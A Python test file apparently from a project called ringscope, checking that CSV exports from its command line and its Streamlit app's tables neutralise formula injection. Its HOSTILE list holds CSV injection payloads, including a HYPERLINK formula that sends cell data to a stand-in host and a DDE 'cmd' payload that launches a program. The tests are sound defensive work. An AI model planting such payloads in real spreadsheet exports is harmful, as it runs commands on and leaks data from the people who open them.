"""CSV injection outside packs: the command line's ``--format csv`` and the app's table downloads.

(Packs: ``tests/hostile/test_evidence.py::test_no_cell_of_a_packs_csv_files_starts_a_formula``.)
"""

from __future__ import annotations

import csv
import io

from streamlit.testing.v1 import AppTest

from ringscope.commands.output import emit

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tlead tab", "\rlead cr"]


def test_command_line_csv_cells_never_start_a_formula_and_numbers_stay_numbers(capsys):
    emit([(text, -3.5, 7) for text in HOSTILE], ["nickname", "score", "n"], "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["nickname", "score", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    assert {(r[1], r[2]) for r in rows[1:]} == {("-3.5", "7")}


def _page():
    from ringscope.webapp.views.common import table
    from tests.hostile.test_csv_cells import HOSTILE

    table([{"nickname": text, "score": -0.5} for text in HOSTILE] + [{"nickname": "plain", "score": 1.0}],
          key="hostile_table")


def test_the_apps_tables_hold_no_cell_that_starts_a_formula():
    """What the table's download button writes is what the table holds: the shown values."""
    at = AppTest.from_function(_page).run()
    assert not at.exception
    frame = at.dataframe[0].value
    assert list(frame["nickname"]) == ["'" + t for t in HOSTILE] + ["plain"]
    assert list(frame["score"]) == [-0.5] * len(HOSTILE) + [1.0]
